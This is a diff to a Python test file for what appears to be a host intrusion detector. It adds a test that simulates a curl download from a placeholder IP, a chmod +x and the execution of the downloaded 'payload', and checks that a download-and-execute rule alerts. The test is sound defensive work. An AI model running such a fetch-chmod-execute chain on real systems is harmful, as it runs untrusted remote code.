@@ -74,3 +74,29 @@ def test_text_and_json_show_the_author(tmp_path):
     assert line == ("10:00:00.000 ALERT         42 LOW id run [0b5e0000-0000-4000-8000-0000000000aa, "
                     "attack.t1033, by Jane Roe] root /usr/bin/id [id -u]\n")
     assert b'"author":"Jane Roe"' in to_json(alert)
+
+
+def test_download_chmod_exec_reaches_an_executable_of_any_name():
+    """The download behaviour is planned only for downloaders and chmod; while a downloaded file
+    is executable and not yet run (`pending`), every exec is shown to it, whatever its name."""
+    det = Detector.from_paths(None)
+    dl = next(b for b in det.behaviours if b.info.id.endswith("000000000011"))
+    common = {"cwd": "/tmp/d", "sessionid": 7, "user": "bob", "uid": 1000}
+    assert det.observe(event(pid=50, exec_id="b:1:50", exe="/usr/bin/curl", filename="/usr/bin/curl",
+                             argv=["curl", "-o", "payload", "http://198.51.100.7/p"], **common)) == []
+    assert dl.pending == 0
+    assert det.observe(event(pid=51, exec_id="b:1:51", exe="/usr/bin/chmod", filename="/usr/bin/chmod",
+                             argv=["chmod", "+x", "payload"], **common)) == []
+    assert dl.pending == 1
+    assert det.observe(event(pid=52, exec_id="b:1:52", exe="/usr/bin/ls", filename="/usr/bin/ls",
+                             argv=["ls"], **common)) == []
+    alerts = det.observe(event(pid=53, exec_id="b:1:53", exe="/tmp/d/payload", filename="./payload",
+                               argv=["./payload"], **common))
+    [alert] = [a for a in alerts if a.rule.id == dl.info.id]  # (and the exec-from-/tmp rule)
+    assert (alert.rule.id, alert.pid, alert.matched["file"]) == (dl.info.id, 53, "/tmp/d/payload")
+    assert dl.pending == 0
+
+
+def test_the_pipeline_asks_before_handing_forks_and_exits():
+    det = Detector.from_paths(None)
+    assert [det.wants(k) for k in ("exec", "existing", "missed", "fork", "exit")] == [True, True, True, False, False]
